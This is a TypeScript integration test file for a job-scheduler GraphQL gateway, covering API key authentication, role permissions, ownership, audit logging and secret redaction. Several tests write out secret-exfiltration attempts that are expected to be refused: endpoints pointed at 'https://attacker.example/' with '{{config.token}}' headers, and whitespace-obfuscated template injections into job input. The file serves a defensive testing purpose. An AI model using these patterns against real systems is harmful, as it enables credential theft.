/**
 * Keys, roles, ownership, audit and the hardened surface, through the real gateway over HTTP.
 */
import type { AddressInfo } from 'node:net';
import { getIntrospectionQuery } from 'graphql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../src/log.js';
import { startGateway, type RunningGateway } from '../../src/server/gateway.js';
import { createTestDb, type TestDb } from '../support/db.js';

let t: TestDb;
let gw: RunningGateway;
let url: string;
const logs: string[] = [];
const keys: Record<'ADMIN' | 'OPERATOR' | 'OPERATOR2' | 'VIEWER', string> = { ADMIN: '', OPERATOR: '', OPERATOR2: '', VIEWER: '' };
const SIGNING_SECRET = 'whsec_c2lnbmluZy1zZWNyZXQtZm9yLXRlc3Rz';
const CONFIG_SECRET = 'cfg-secret-value-9f8e7d';

async function gql(key: string | undefined, query: string, variables: Record<string, unknown> = {}) {
  const res = await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(key ? { authorization: `Bearer ${key}` } : {}) },
    body: JSON.stringify({ query, variables }),
  });
  return { status: res.status, body: (await res.json()) as { data?: any; errors?: { message: string; extensions?: any }[] } };
}

beforeAll(async () => {
  t = await createTestDb();
  const log = createLogger('debug', (l) => logs.push(l));
  gw = await startGateway({
    service: t.service,
    log,
    host: '127.0.0.1',
    port: 0,
    maxBodyBytes: 100_000,
    authenticate: (request) => t.service.authenticate(/^Bearer (\S+)$/.exec(request.headers.get('authorization') ?? '')?.[1]),
  });
  url = `http://127.0.0.1:${(gw.server.address() as AddressInfo).port}/graphql`;
  keys.ADMIN = (await t.service.bootstrapKey('default', 'ADMIN', 'admin')).key;
  const admin = await t.service.authenticate(keys.ADMIN);
  for (const role of ['OPERATOR', 'VIEWER'] as const) keys[role] = (await t.service.createApiKey(admin, { name: role, role })).key;
  keys.OPERATOR2 = (await t.service.createApiKey(admin, { name: 'second operator', role: 'OPERATOR' })).key;
});
afterAll(async () => {
  await gw.close();
  await t.close();
});

describe('authentication', () => {
  it('refuses a missing, malformed or unknown key with UNAUTHENTICATED and 401', async () => {
    for (const key of [undefined, 'nope', 'jg_unknownunknownunknownunknown']) {
      const { status, body } = await gql(key, '{ workspace { slug } }');
      expect(status).toBe(401);
      expect(body.errors![0]!.extensions.code).toBe('UNAUTHENTICATED');
      expect(body.data ?? null).toBeNull();
    }
  });

  it('stops a revoked key at once', async () => {
    const admin = await t.service.authenticate(keys.ADMIN);
    const { key, apiKey } = await t.service.createApiKey(admin, { name: 'short-lived', role: 'VIEWER' });
    expect((await gql(key, '{ workspace { slug } }')).body.data.workspace.slug).toBe('default');
    const revoked = await gql(keys.ADMIN, 'mutation ($id: ID!) { revokeApiKey(id: $id) { revokedAt } }', { id: apiKey.id });
    expect(revoked.body.data.revokeApiKey.revokedAt).toEqual(expect.any(String));
    expect((await gql(key, '{ workspace { slug } }')).body.errors![0]!.extensions.code).toBe('UNAUTHENTICATED');
  });

  it('stores keys hashed and lists them without the key', async () => {
    const { rows } = await t.query('select key_hash, prefix from api_keys');
    for (const r of rows) expect(Buffer.isBuffer(r.key_hash) && r.key_hash.length).toBe(32);
    const listed = await gql(keys.ADMIN, '{ apiKeys { name role prefix lastUsedAt } }');
    expect(JSON.stringify(listed.body)).not.toContain(keys.OPERATOR);
    expect(listed.body.data.apiKeys.find((k: { name: string }) => k.name === 'admin').lastUsedAt).toEqual(expect.any(String));
  });
});

describe('roles', () => {
  let endpointId = '';
  let ownJobId = '';
  let executionId = '';
  let ruleId = '';
  let alertId = '';
  const setup = async () => {
    if (endpointId) return;
    const ep = await gql(
      keys.OPERATOR,
      'mutation { registerEndpoint(input: { name: "role.target", kind: HANDLER, handlerName: "h" }) { id } }',
    );
    endpointId = ep.body.data.registerEndpoint.id;
    const job = await gql(keys.OPERATOR, 'mutation ($e: ID) { createJob(input: { endpointId: $e, kind: IMMEDIATE }) { job { id } } }', {
      e: endpointId,
    });
    ownJobId = job.body.data.createJob.job.id;
    executionId = (await t.query('select id from executions where job_id = $1', [ownJobId])).rows[0].id;
    const rule = await gql(
      keys.ADMIN,
      'mutation { createAlertRule(input: { name: "role.rule", condition: EXECUTION_FAILED, email: true, emailTo: ["oncall@role.test"] }) { id } }',
    );
    ruleId = rule.body.data.createAlertRule.id;
    // One alert of that rule, as the evaluator writes it (no worker runs here).
    alertId = (
      await t.query(
        `insert into alert_notifications (workspace_id, rule_id, condition, kind, subject_type, subject_key, subject_id, window_start, first_seen_at, last_seen_at, occurrences, summary)
       select workspace_id, $1::uuid, 'EXECUTION_FAILED', 'FIRING', 'JOB', 'job:' || $2::text, $2::uuid, now(), now(), now(), 1, 'A failed' from jobs where id = $2::uuid returning id`,
        [ruleId, ownJobId],
      )
    ).rows[0].id;
  };

  type Ids = { endpointId: string; jobId: string; executionId: string; ruleId: string; alertId: string };
  const matrix: [string, string, (ids: Ids) => Record<string, unknown>, Record<string, 'ok' | 'FORBIDDEN'>][] = [
    [
      'createPayloadSpec',
      'mutation { createPayloadSpec(input: { name: "spec.NAME", jsonSchema: true }) { id } }',
      () => ({}),
      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' },
    ],
    [
      'setConfig',
      'mutation { setConfig(input: { name: "cfg.NAME", entries: [] }) { id } }',
      () => ({}),
      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' },
    ],
    [
      'registerEndpoint',
      'mutation { registerEndpoint(input: { name: "ep.NAME", kind: HANDLER, handlerName: "h" }) { id } }',
      () => ({}),
      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' },
    ],
    [
      'createJob',
      'mutation ($e: ID) { createJob(input: { endpointId: $e, kind: DELAYED, runAt: "2099-01-01T00:00:00Z" }) { created } }',
      (i) => ({ e: i.endpointId }),
      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' },
    ],
    [
      'triggerJob',
      'mutation ($j: ID!) { triggerJob(input: { id: $j, force: true }) { created } }',
      (i) => ({ j: i.jobId }),
      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' },
    ],
    [
      'createApiKey',
      'mutation { createApiKey(input: { name: "k", role: VIEWER }) { key } }',
      () => ({}),
      { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
    ],
    ['apiKeys', '{ apiKeys { id } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' }],
    ['auditLog', '{ auditLog { entries { id } } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' }],
    [
      'createWorkspace',
      'mutation { createWorkspace(input: { slug: "ws-NAME", name: "x" }) { workspace { id } } }',
      () => ({}),
      { ADMIN: 'FORBIDDEN', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
    ],
    ['jobs', '{ jobs { nodes { id } } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'ok' }],
    // Alert rules hold email addresses and webhook destinations: ADMIN only, as API keys. What they raised is every role's.
    [
      'alertRules',
      '{ alertRules { nodes { id emailTo webhookEndpointId } } }',
      () => ({}),
      { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
    ],
    [
      'alertRule',
      'query ($id: ID!) { alertRule(id: $id) { id emailTo } }',
      (i) => ({ id: i.ruleId }),
      { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
    ],
    ['alerts', '{ alerts { nodes { id ruleId ruleName summary detail } } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'ok' }],
    [
      'alert',
      'query ($id: ID!) { alert(id: $id) { id ruleName } }',
      (i) => ({ id: i.alertId }),
      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'ok' },
    ],
    [
      'alerts.rule',
      '{ alerts { nodes { id rule { emailTo } } } }',
      () => ({}),
      { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
    ],
    [
      'alert.rule',
      'query ($id: ID!) { alert(id: $id) { rule { name emailTo } } }',
      (i) => ({ id: i.alertId }),
      { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
    ],
  ];
  let n = 0;
  for (const [name, query, vars, expected] of matrix) {
    for (const role of ['ADMIN', 'OPERATOR', 'VIEWER'] as const) {
      it(`${name} as ${role}: ${expected[role]}`, async () => {
        await setup();
        const res = await gql(
          keys[role],
          query.replace('NAME', `${role.toLowerCase()}-${n++}`),
          vars({ endpointId, jobId: ownJobId, executionId, ruleId, alertId }),
        );
        if (expected[role] === 'ok') expect(res.body.errors).toBeUndefined();
        else expect(res.body.errors![0]!.extensions.code).toBe('FORBIDDEN');
        // A refused read leaks nothing of what it refused (here: a rule's recipients).
        if (expected[role] === 'FORBIDDEN') expect(JSON.stringify(res.body)).not.toContain('oncall@role.test');
      });
    }
  }

  it('lets an OPERATOR change only what its own key created; ADMIN anything; refusals are audited', async () => {
    await setup();
    const update = 'mutation ($j: ID!) { updateJob(input: { id: $j, name: "renamed" }) { name } }';
    const other = await gql(keys.OPERATOR2, update, { j: ownJobId });
    expect(other.body.errors![0]!.extensions.code).toBe('FORBIDDEN');
    expect(
      (await gql(keys.OPERATOR2, 'mutation ($j: ID!) { cancelJob(id: $j) { cancelledExecutions } }', { j: ownJobId })).body.errors![0]!
        .extensions.code,
    ).toBe('FORBIDDEN');
    expect((await gql(keys.OPERATOR, update, { j: ownJobId })).body.data.updateJob.name).toBe('renamed');
    expect((await gql(keys.ADMIN, 'mutation ($j: ID!) { pauseJob(id: $j) { status } }', { j: ownJobId })).body.data.pauseJob.status).toBe(
      'PAUSED',
    );
    const audit = await gql(keys.ADMIN, 'query ($j: String) { auditLog(targetId: $j) { entries { action resultCode actorKeyId } } }', {
      j: ownJobId,
    });
    const entries = audit.body.data.auditLog.entries as { action: string; resultCode: string }[];
    expect(entries.map((e) => `${e.action}:${e.resultCode}`)).toEqual(
      expect.arrayContaining(['job.update:FORBIDDEN', 'job.cancel:FORBIDDEN', 'job.update:OK', 'job.pause:OK']),
    );
    // Runs too: an OPERATOR cancels only the runs its key started.
    const run = await gql(keys.OPERATOR, 'mutation { triggerRun(input: { name: "op.scan", force: true }) { run { id } } }');
    const runId = run.body.data.triggerRun.run.id;
    expect(
      (await gql(keys.OPERATOR2, 'mutation ($id: ID!) { cancelRun(id: $id) { id } }', { id: runId })).body.errors![0]!.extensions.code,
    ).toBe('FORBIDDEN');
    expect(
      (await gql(keys.OPERATOR, 'mutation ($id: ID!) { cancelRun(id: $id) { status } }', { id: runId })).body.data.cancelRun.status,
    ).toBe('PAUSED');
    // The job records the key that created it.
    const { rows } = await t.query('select created_by_key_id from jobs where id = $1', [ownJobId]);
    expect(rows[0].created_by_key_id).toBe((await t.service.authenticate(keys.OPERATOR)).keyId);
  });

  it("keeps an OPERATOR off another key's batch: closing, cancelling and joining it are FORBIDDEN and change nothing", async () => {
    await setup();
    const made = await gql(
      keys.OPERATOR,
      `mutation ($e: ID) { createBatch(input: { open: true, jobs: [{ endpointId: $e, kind: DELAYED, runAt: "2099-01-01T00:00:00Z" }] }) {
         batch { id } } }`,
      { e: endpointId },
    );
    const batchId = made.body.data.createBatch.batch.id as string;
    const state = async () =>
      (
        await t.query(
          `select b.open, b.total, array_agg(j.status order by j.created_at) as members
           from batches b join jobs j on j.batch_id = b.id where b.id = $1 group by b.open, b.total`,
          [batchId],
        )
      ).rows[0];
    const before = await state();
    expect(before).toMatchObject({ open: true, members: ['ACTIVE'] });
    const codeOf = async (key: string, query: string) =>
      (await gql(key, query, { b: batchId, e: endpointId })).body.errors?.[0]?.extensions.code;
    const cancel = 'mutation ($b: ID!) { cancelBatch(id: $b) { cancelledJobs } }';
    const close = 'mutation ($b: ID!) { closeBatch(id: $b) { open } }';
    const join =
      'mutation ($b: ID, $e: ID) { createJob(input: { batchId: $b, endpointId: $e, kind: DELAYED, runAt: "2099-01-01T00:00:00Z" }) { job { id } } }';
    expect(await codeOf(keys.OPERATOR2, cancel)).toBe('FORBIDDEN');
    expect(await codeOf(keys.OPERATOR2, close)).toBe('FORBIDDEN');
    expect(await codeOf(keys.OPERATOR2, join)).toBe('FORBIDDEN');
    expect(await state()).toEqual(before);
    // Its own key, and an ADMIN, may.
    expect(await codeOf(keys.OPERATOR, join)).toBeUndefined();
    expect(await codeOf(keys.ADMIN, join)).toBeUndefined();
    expect(await codeOf(keys.OPERATOR, close)).toBeUndefined();
    expect((await gql(keys.ADMIN, cancel, { b: batchId })).body.data.cancelBatch.cancelledJobs).toBe(3);
    const audit = await gql(keys.ADMIN, 'query ($b: String) { auditLog(targetId: $b) { entries { action resultCode } } }', { b: batchId });
    expect(
      (audit.body.data.auditLog.entries as { action: string; resultCode: string }[]).map((e) => `${e.action}:${e.resultCode}`),
    ).toEqual(expect.arrayContaining(['batch.cancel:FORBIDDEN', 'batch.close:FORBIDDEN', 'batch.close:OK', 'batch.cancel:OK']));
  });

  it("keeps OPERATOR keys off others' configs and payload specs, and off secrets they did not set", async () => {
    const secretCfg = await gql(
      keys.ADMIN,
      'mutation { setConfig(input: { name: "admin.secrets", entries: [{ key: "token", value: "t0p-s3cret", secret: true }] }) { id } }',
    );
    const plainCfg = await gql(
      keys.ADMIN,
      'mutation { setConfig(input: { name: "admin.plain", entries: [{ key: "host", value: "example.com" }] }) { id } }',
    );
    const spec = await gql(keys.ADMIN, 'mutation { createPayloadSpec(input: { name: "admin.spec", jsonSchema: true }) { id } }');
    const code = (r: { body: { errors?: { extensions?: any }[] } }) => r.body.errors?.[0]?.extensions?.code;
    expect(code(await gql(keys.OPERATOR2, 'mutation { setConfig(input: { name: "admin.plain", entries: [] }) { id } }'))).toBe('FORBIDDEN');
    expect(
      code(
        await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updatePayloadSpec(input: { id: $id, jsonSchema: false }) { id } }', {
          id: spec.body.data.createPayloadSpec.id,
        }),
      ),
    ).toBe('FORBIDDEN');
    // Pointing an endpoint at someone else's secrets would send them wherever its url says.
    const steal = await gql(
      keys.OPERATOR2,
      'mutation ($c: ID) { registerEndpoint(input: { name: "steal.it", kind: HTTP, url: "https://attacker.example/", headers: { x: "{{config.token}}" }, configId: $c }) { id } }',
      {
        c: secretCfg.body.data.setConfig.id,
      },
    );
    expect(code(steal)).toBe('FORBIDDEN');
    const fine = await gql(
      keys.OPERATOR2,
      'mutation ($c: ID) { registerEndpoint(input: { name: "uses.plain", kind: HTTP, url: "https://{{config.host}}/", configId: $c }) { id } }',
      {
        c: plainCfg.body.data.setConfig.id,
      },
    );
    expect(fine.body.errors).toBeUndefined();
    expect(
      code(
        await gql(
          keys.OPERATOR2,
          'mutation { registerEndpoint(input: { name: "fake.reaper", kind: HANDLER, handlerName: "jobgate.reaper" }) { id } }',
        ),
      ),
    ).toBe('VALIDATION_FAILED');
  });

  it("keeps a secret out of a job's input unless the key may aim an endpoint at it", async () => {
    const code = (r: { body: { errors?: { extensions?: any }[] } }) => r.body.errors?.[0]?.extensions?.code;
    const cfg = await gql(
      keys.ADMIN,
      'mutation { setConfig(input: { name: "input.cfg", entries: [{ key: "token", value: "input-s3cret-value", secret: true }, { key: "region", value: "eu" }] }) { id } }',
    );
    await gql(
      keys.ADMIN,
      'mutation ($c: ID) { registerEndpoint(input: { name: "input.admins", kind: HTTP, url: "https://partner.example/", configId: $c }) { id } }',
      {
        c: cfg.body.data.setConfig.id,
      },
    );
    const create = (key: string, input: unknown) =>
      gql(
        key,
        'mutation ($i: JSON) { createJob(input: { endpointName: "input.admins", kind: DELAYED, runAt: "2099-01-01T00:00:00Z", input: $i }) { job { id } } }',
        { i: input },
      );
    const before = (
      await t.query(`select count(*)::int as n from jobs j join endpoints e on e.id = j.endpoint_id where e.name = 'input.admins'`)
    ).rows[0].n;
    // The body of an HTTP job is its input with {{config.key}} rendered: naming the secret sends it.
    expect(code(await create(keys.OPERATOR2, { s: '{{config.token}}' }))).toBe('FORBIDDEN');
    expect(code(await create(keys.OPERATOR2, { deep: ['x', { s: 'Bearer {{ config.token }}' }] }))).toBe('FORBIDDEN');
    // Whitespace the renderer reads, which the input's JSON text holds escaped.
    for (const space of ['\t', '\n', '\r', '\f', '\v'])
      expect(code(await create(keys.OPERATOR2, { s: `{{${space}config.token${space}}}` }))).toBe('FORBIDDEN');
    const many = await gql(
      keys.OPERATOR2,
      'mutation { createJobs(input: { jobs: [{ endpointName: "input.admins", kind: IMMEDIATE }, { endpointName: "input.admins", kind: IMMEDIATE, input: { s: "{{config.token}}" } }] }) { results { job { id } } } }',
    );
    expect(code(many)).toBe('FORBIDDEN');
    const tabbed = await gql(
      keys.OPERATOR2,
      'mutation ($i: JSON) { createJobs(input: { jobs: [{ endpointName: "input.admins", kind: IMMEDIATE, input: $i }] }) { results { job { id } } } }',
      { i: { s: '{{\tconfig.token}}' } },
    );
    expect(code(tabbed)).toBe('FORBIDDEN');
    expect(
      (await t.query(`select count(*)::int as n from jobs j join endpoints e on e.id = j.endpoint_id where e.name = 'input.admins'`))
        .rows[0].n,
    ).toBe(before);
    // A value that is not secret, and the secret's owner (an ADMIN), are fine.
    expect((await create(keys.OPERATOR2, { r: '{{config.region}}' })).body.errors).toBeUndefined();
    const own = await create(keys.ADMIN, { s: '{{config.token}}' });
    expect(own.body.errors).toBeUndefined();
    // Nor may the secret be put into the input of a job later.
    const plain = await create(keys.OPERATOR2, { s: 'plain' });
    const change = await gql(keys.OPERATOR2, 'mutation ($id: ID!, $i: JSON) { updateJob(input: { id: $id, input: $i }) { id } }', {
      id: plain.body.data.createJob.job.id,
      i: { s: '{{config.token}}' },
    });
    expect(code(change)).toBe('FORBIDDEN');
  });

  it("keeps an OPERATOR from re-aiming its own endpoint once an ADMIN wired another key's secrets into it", async () => {
    const code = (r: { body: { errors?: { extensions?: any }[] } }) => r.body.errors?.[0]?.extensions?.code;
    const cfg = await gql(
      keys.ADMIN,
      'mutation { setConfig(input: { name: "admin.wired", entries: [{ key: "token", value: "wired-s3cret-value", secret: true }] }) { id } }',
    );
    const ep = await gql(
      keys.OPERATOR2,
      'mutation { registerEndpoint(input: { name: "op.wired", kind: HTTP, url: "https://partner.example/hook" }) { id } }',
    );
    const id = ep.body.data.registerEndpoint.id as string;
    // The ADMIN gives the operator's endpoint the secret it needs, for the url it was registered with.
    const wire = await gql(
      keys.ADMIN,
      'mutation ($id: ID!, $c: ID) { updateEndpoint(input: { id: $id, configId: $c, headers: { authorization: "Bearer {{config.token}}" } }) { id } }',
      {
        id,
        c: cfg.body.data.setConfig.id,
      },
    );
    expect(wire.body.errors).toBeUndefined();
    // Sending that secret somewhere else is as good as reading it.
    expect(
      code(
        await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updateEndpoint(input: { id: $id, url: "https://attacker.example/" }) { id } }', {
          id,
        }),
      ),
    ).toBe('FORBIDDEN');
    expect(
      code(
        await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updateEndpoint(input: { id: $id, headers: { x: "{{config.token}}" } }) { id } }', {
          id,
        }),
      ),
    ).toBe('FORBIDDEN');
    const { rows } = await t.query('select url, headers from endpoints where id = $1', [id]);
    expect(rows[0]).toEqual({ url: 'https://partner.example/hook', headers: { authorization: 'Bearer {{config.token}}' } });
    // What does not change where or what it sends stays the operator's to change.
    expect(
      (await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updateEndpoint(input: { id: $id, description: "mine" }) { description } }', { id }))
        .body.data.updateEndpoint.description,
    ).toBe('mine');
  });

  it("keeps secrets written later out of an OPERATOR's endpoint, whoever created the config", async () => {
    const code = (r: { body: { errors?: { extensions?: any }[] } }) => r.body.errors?.[0]?.extensions?.code;
    // An OPERATOR aims its endpoint at a config while it holds no secret; an ADMIN adds one later.
    const shared = await gql(
      keys.ADMIN,
      'mutation { setConfig(input: { name: "later.shared", entries: [{ key: "region", value: "eu" }] }) { id } }',
    );
    const configId = shared.body.data.setConfig.id as string;
    const aimed = await gql(
      keys.OPERATOR2,
      'mutation ($c: ID) { registerEndpoint(input: { name: "later.exfil", kind: HTTP, url: "https://attacker.example/", configId: $c }) { id } }',
      { c: configId },
    );
    expect(aimed.body.errors).toBeUndefined();
    const addSecret = await gql(
      keys.ADMIN,
      'mutation { setConfig(input: { name: "later.shared", entries: [{ key: "region", value: "eu" }, { key: "apiToken", value: "admin-only-secret-42", secret: true }] }) { id } }',
    );
    expect(code(addSecret)).toBe('CONFLICT');
    expect(addSecret.body.errors![0]!.message).toContain('later.exfil');
    expect(addSecret.body.errors![0]!.extensions.endpoints).toEqual(['later.exfil']);
    // Nothing was written: the config still holds no secret.
    expect((await t.query('select entries from configs where id = $1', [configId])).rows[0].entries).toEqual({
      region: { value: 'eu', secret: false },
    });
    // An ADMIN's own endpoints, and an OPERATOR's secrets in its own config for its own endpoint, are fine.
    await gql(
      keys.ADMIN,
      'mutation { registerEndpoint(input: { name: "later.admins", kind: HTTP, url: "https://partner.example/", configId: "' +
        configId +
        '" }) { id } }',
    );
    expect(
      (await gql(keys.OPERATOR2, 'mutation ($id: ID!) { archiveEndpoint(id: $id) { id } }', { id: aimed.body.data.registerEndpoint.id }))
        .body.errors,
    ).toBeUndefined();
    expect(
      (
        await gql(
          keys.ADMIN,
          'mutation { setConfig(input: { name: "later.shared", entries: [{ key: "apiToken", value: "admin-only-secret-42", secret: true }] }) { id } }',
        )
      ).body.errors,
    ).toBeUndefined();
    const own = await gql(
      keys.OPERATOR2,
      'mutation { setConfig(input: { name: "later.own", entries: [{ key: "host", value: "example.com" }] }) { id } }',
    );
    await gql(
      keys.OPERATOR2,
      'mutation ($c: ID) { registerEndpoint(input: { name: "later.own", kind: HTTP, url: "https://example.com/", configId: $c }) { id } }',
      {
        c: own.body.data.setConfig.id,
      },
    );
    expect(
      (
        await gql(
          keys.OPERATOR2,
          'mutation { setConfig(input: { name: "later.own", entries: [{ key: "pw", value: "operator-own-secret", secret: true }] }) { id } }',
        )
      ).body.errors,
    ).toBeUndefined();

    // An ADMIN's secret in a config an OPERATOR created stays the ADMIN's: the OPERATOR may not aim an endpoint at it.
    const opCfg = await gql(keys.OPERATOR2, 'mutation { setConfig(input: { name: "later.opcfg", entries: [] }) { id } }');
    expect(
      (
        await gql(
          keys.ADMIN,
          'mutation { setConfig(input: { name: "later.opcfg", entries: [{ key: "dbPassword", value: "admin-pw-777777", secret: true }] }) { id } }',
        )
      ).body.errors,
    ).toBeUndefined();
    const steal = await gql(
      keys.OPERATOR2,
      'mutation ($c: ID) { registerEndpoint(input: { name: "later.steal", kind: HTTP, url: "https://attacker.example/", headers: { x: "{{config.dbPassword}}" }, configId: $c }) { id } }',
      { c: opCfg.body.data.setConfig.id },
    );
    expect(code(steal)).toBe('FORBIDDEN');
    expect((await t.query(`select count(*)::int as n from endpoints where name = 'later.steal'`)).rows[0].n).toBe(0);
  });

  it('lets only an installation admin revoke an installation-admin key', async () => {
    const code = (r: { body: { errors?: { extensions?: any }[] } }) => r.body.errors?.[0]?.extensions?.code;
    const root = await t.service.bootstrapKey('default', 'ADMIN', 'installation admin to keep', true);
    const revoke = (key: string) => gql(key, 'mutation ($id: ID!) { revokeApiKey(id: $id) { revokedAt } }', { id: root.apiKey.id });
    expect(code(await revoke(keys.ADMIN!))).toBe('FORBIDDEN');
    expect((await t.query('select revoked_at from api_keys where id = $1', [root.apiKey.id])).rows[0].revoked_at).toBeNull();
    expect((await gql(root.key, '{ workspace { slug } }')).body.data.workspace.slug).toBe('default');
    const other = (await t.service.bootstrapKey('default', 'ADMIN', 'another installation admin', true)).key;
    expect((await revoke(other)).body.data.revokeApiKey.revokedAt).toEqual(expect.any(String));
  });

  it('lets an installation admin create a workspace, which gets its own admin key and reaper', async () => {
    const root = (await t.service.bootstrapKey('default', 'ADMIN', 'installation admin', true)).key;
    const res = await gql(
      root,
      'mutation { createWorkspace(input: { slug: "acme", name: "Acme" }) { workspace { slug } adminKey { key } } }',
    );
    expect(res.body.data.createWorkspace.workspace.slug).toBe('acme');
    const acmeKey = res.body.data.createWorkspace.adminKey.key as string;
    expect((await gql(acmeKey, '{ workspace { slug } }')).body.data.workspace.slug).toBe('acme');
    const reaper = await gql(acmeKey, '{ jobs(filter: { includeInternal: true }) { nodes { name } } }');
    // The reaper and the alert evaluator (migration 000020).
    expect(reaper.body.data.jobs.nodes.map((n: { name: string }) => n.name).sort()).toEqual(['alerts', 'reaper']);
  });
});

describe('installation details', () => {
  it("shows a workspace's keys neither where workers run nor handler error text, in triggerHandler's answer and its CONFLICT either", async () => {
    const worker = 'build-host-7.internal:4242:a1b2c3';
    await t.query(
      `insert into workers (id, host, pid, stale_ms, handlers) values ($1, 'build-host-7.internal', 4242, 600000, '[{"kind":"INTERVAL","name":"nightly.sweep","everyMs":60000}]')`,
      [worker],
    );
    await t.query(
      `insert into interval_handlers (name, every_ms, next_due_at, last_status, last_cause, last_error, last_started_at, last_finished_at)
       values ('nightly.sweep', 60000, now() + interval '1 hour', 'ERROR', 'HANDLER', 'boom at row 17 of acme.invoices', now(), now())`,
    );
    const fields = 'kind name workers { id host pid } lastOutcome { status message } interval { runningOn }';
    const leaks = (body: unknown) => {
      const text = JSON.stringify(body);
      return ['build-host-7', '4242', 'acme.invoices'].filter((s) => text.includes(s));
    };
    const listed = await gql(keys.ADMIN, `{ handlers(name: "nightly.sweep") { ${fields} } }`);
    expect(listed.body.data.handlers).toHaveLength(1);
    expect(leaks(listed.body)).toEqual([]);
    const triggered = await gql(
      keys.ADMIN,
      `mutation { triggerHandler(input: { name: "nightly.sweep" }) { outcome handler { ${fields} } } }`,
    );
    expect(triggered.body.data.triggerHandler.outcome).toBe('DUE_NOW');
    expect(leaks(triggered.body)).toEqual([]);
    // While it runs, the refusal names the worker as the catalogue does.
    await t.query(`update interval_handlers set owner = $1, run_started_at = now() where name = 'nightly.sweep'`, [worker]);
    const refused = await gql(keys.ADMIN, 'mutation { triggerHandler(input: { name: "nightly.sweep" }) { outcome } }');
    expect(refused.body.errors![0]!.extensions.code).toBe('CONFLICT');
    expect(leaks(refused.body)).toEqual([]);
    expect(refused.body.errors![0]!.extensions.runningOn).toBe(listed.body.data.handlers[0].workers[0].id);
    // An installation admin sees the machines.
    const root = (await t.service.bootstrapKey('default', 'ADMIN', 'installation admin for details', true)).key;
    const full = await gql(
      root,
      `mutation { triggerHandler(input: { name: "nightly.sweep", force: true }) { outcome handler { ${fields} } } }`,
    );
    expect(full.body.data.triggerHandler.handler.workers[0]).toEqual({ id: worker, host: 'build-host-7.internal', pid: 4242 });
    expect(full.body.data.triggerHandler.handler.lastOutcome.message).toBe('boom at row 17 of acme.invoices');
    await t.query(`delete from workers where id = $1`, [worker]);
  });

  it("names an attempt's worker to a workspace's keys by its digest, as the catalogue does, and shows its host and pid to installation admins only", async () => {
    const ep = await gql(
      keys.OPERATOR,
      'mutation { registerEndpoint(input: { name: "attempts.where", kind: HANDLER, handlerName: "h" }) { id } }',
    );
    const job = await gql(keys.OPERATOR, 'mutation ($e: ID) { createJob(input: { endpointId: $e, kind: IMMEDIATE }) { job { id } } }', {
      e: ep.body.data.registerEndpoint.id,
    });
    const { rows } = await t.query('select id, workspace_id from executions where job_id = $1', [job.body.data.createJob.job.id]);
    const worker = 'payments-db-host.internal:31337:d4e5f6';
    await t.query(
      `insert into attempts (workspace_id, execution_id, attempt_number, lease_epoch, worker_id, finished_at, outcome, error,
                             worker_host, worker_pid)
       values ($1, $2, 1, 1, $3, now(), 'FAILED', 'boom', 'payments-db-host.internal', 31337)`,
      [rows[0].workspace_id, rows[0].id, worker],
    );
    const ask = (key: string) =>
      gql(key, 'query ($id: ID!) { execution(id: $id) { attempts { workerId workerHost workerPid error } } }', { id: rows[0].id });
    for (const key of [keys.VIEWER, keys.ADMIN]) {
      const res = await ask(key);
      expect(JSON.stringify(res.body)).not.toMatch(/payments-db-host|31337/);
      expect(res.body.data.execution.attempts).toEqual([
        { workerId: expect.stringMatching(/^worker-[0-9a-f]{12}$/), workerHost: null, workerPid: null, error: 'boom' },
      ]);
    }
    const root = (await t.service.bootstrapKey('default', 'ADMIN', 'installation admin for attempts', true)).key;
    expect((await ask(root)).body.data.execution.attempts[0]).toMatchObject({
      workerId: worker,
      workerHost: 'payments-db-host.internal',
      workerPid: 31337,
    });
  });
});

describe('secrets', () => {
  it('never returns, logs or audits a signing secret or a secret config value, and stores them encrypted', async () => {
    await gql(
      keys.ADMIN,
      `mutation ($s: String) { registerEndpoint(input: { name: "secret.hook", kind: HTTP, url: "https://example.com/h", signingSecret: $s }) { id hasSigningSecret } }`,
      {
        s: SIGNING_SECRET,
      },
    );
    await gql(
      keys.ADMIN,
      `mutation ($v: String!) { setConfig(input: { name: "secret.cfg", entries: [{ key: "token", value: $v, secret: true }] }) { entries { value } } }`,
      {
        v: CONFIG_SECRET,
      },
    );
    const answers = JSON.stringify([
      (
        await gql(
          keys.ADMIN,
          '{ endpoints { nodes { url hasSigningSecret config { entries { key value } } } } configs { nodes { entries { key value secret } } } }',
        )
      ).body,
      (await gql(keys.ADMIN, '{ auditLog(first: 200) { entries { input } } }')).body,
    ]);
    const tables = ['endpoints', 'configs', 'audit_log'];
    const stored = JSON.stringify(await Promise.all(tables.map(async (tb) => (await t.query(`select * from ${tb}`)).rows)));
    for (const secret of [SIGNING_SECRET, CONFIG_SECRET]) {
      expect(answers).not.toContain(secret);
      expect(stored).not.toContain(secret);
      expect(logs.join('\n')).not.toContain(secret);
    }
    expect(stored).toContain('enc:v1:');
    expect(answers).toContain('[redacted]');
  });

